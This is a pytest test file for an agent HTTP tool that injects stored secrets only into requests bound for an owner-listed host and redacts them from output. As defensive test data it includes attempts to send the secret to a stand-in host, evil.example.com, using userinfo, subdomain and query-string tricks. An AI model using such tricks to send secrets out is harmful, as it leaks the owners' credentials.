"""A call names a secret; its value is put in for the one host that the owner has listed, and comes back to nobody."""

from base64 import b64encode
from collections.abc import Callable
from typing import Any

import pytest

from ops import secrets
from ops.models import Secret
from tools.base import ToolCall, ToolContext
from tools.builtin import http
from tools.builtin.fetch import Answer, Request
from tools.models import Decision, ToolExecution
from tools.registry import all_tools
from tools.rules import decide

VALUE = 'k"ey/of+the owner'
URL = "https://api.example.com/v1"

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def github() -> Secret:
    return secrets.secret_set(name="github", value=VALUE, hosts=["api.example.com"], actor="user:1")


@pytest.fixture
def sent(monkeypatch: pytest.MonkeyPatch) -> list[Request]:
    """What would go out; the host answers with all that it got."""
    seen: list[Request] = []

    async def answer(request: Request, **options: Any) -> Answer:
        seen.append(request)
        got = f"{request.url} {request.headers} {request.body.decode()} {b64encode(f'u:{VALUE}'.encode()).decode()}"
        return Answer(status=200, url=request.url, headers={}, body=got.encode() + b"." * 30_000, charset="utf-8")

    monkeypatch.setattr(http, "fetch", answer)
    return seen


def request(**fields: Any) -> Request:
    return http.with_secrets(Request(**({"method": "GET", "url": URL} | fields)))


def test_it_is_put_into_a_header_as_it_is() -> None:
    headers = {"Authorization": "Bearer {{secret:github}}", "X": "1"}
    assert request(headers=headers).headers == {"Authorization": f"Bearer {VALUE}", "X": "1"}


def test_it_is_encoded_in_an_address_in_json_and_in_a_form() -> None:
    assert request(url=f"{URL}?key={{{{secret:github}}}}&b=1").url == f"{URL}?key=k%22ey%2Fof%2Bthe%20owner&b=1"
    body = b'{"key": "{{secret:github}}"}'
    json_kind = {"Content-Type": "application/json; charset=utf-8"}
    assert request(body=body, headers=json_kind).body == b'{"key": "k\\"ey/of+the owner"}'
    form = {"content-type": "application/x-www-form-urlencoded"}
    assert request(body=b"key={{secret:github}}", headers=form).body == b"key=k%22ey%2Fof%2Bthe%20owner"
    assert request(body=b"{{secret:github}}").body == VALUE.encode()


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("http://api.example.com/", "https:// addresses only"),
        ("https://evil.example.com/", "may not be sent to evil.example.com"),
        ("https://api.example.com@evil.example.com/", "may not be sent to evil.example.com"),
        ("https://api.example.com.evil.example.com/", "may not be sent"),
        ("https://evil.example.com/?https://api.example.com", "may not be sent to evil"),
    ],
)
def test_it_goes_nowhere_else(url: str, why: str) -> None:
    for fields in ({"headers": {"X": "{{secret:github}}"}}, {"body": b"{{ secret:github }}"}):
        with pytest.raises(secrets.SecretError, match=why):
            request(url=url, **fields)
    with pytest.raises(secrets.SecretError, match=why):
        request(url=f"{url}{{{{secret:github}}}}")
    assert Secret.objects.get().uses == 0


def test_a_call_is_refused_in_a_sentence_before_anything_is_sent(
    execute: Callable[..., ToolExecution], sent: list[Request]
) -> None:
    done = execute("http_request", method="GET", url="https://evil.example.com/{{secret:github}}", approved=True)
    assert done.state == "failed"
    assert "the owner has not listed that host for it" in done.output
    assert sent == []


def test_neither_the_call_nor_its_answer_keeps_the_value(
    execute: Callable[..., ToolExecution], sent: list[Request]
) -> None:
    headers = {"Authorization": "Bearer {{secret:github}}"}
    done = execute("http_request", method="GET", url=f"{URL}?k={{{{secret:github}}}}", headers=headers, approved=True)
    assert sent[0].headers["Authorization"] == f"Bearer {VALUE}"
    done.refresh_from_db()
    assert done.arguments["headers"] == headers
    assert "of+the" not in done.output
    assert "of%2Bthe" not in done.output
    assert b64encode(b"of+the owner").decode()[4:-4] not in done.output
    assert done.output.count("[redacted]") >= 3


def test_a_call_with_a_secret_counts_as_sending() -> None:
    call = ToolCall(call_id="1", name="http_request", arguments={"method": "GET", "url": URL + "?{{secret:github}}"})
    verdict = decide(call)
    assert (verdict.decision, verdict.rule, verdict.read_only) == (Decision.ASK, "http.send", False)
    assert "with the secret github" in verdict.reason


def test_names_and_hosts_are_listed_and_no_value(context: ToolContext) -> None:
    shown = all_tools()["secret_list"].run(context, {}).output
    assert shown == "github: api.example.com"
    assert decide(ToolCall(call_id="1", name="secret_list", arguments={})).rule == "tool.read"
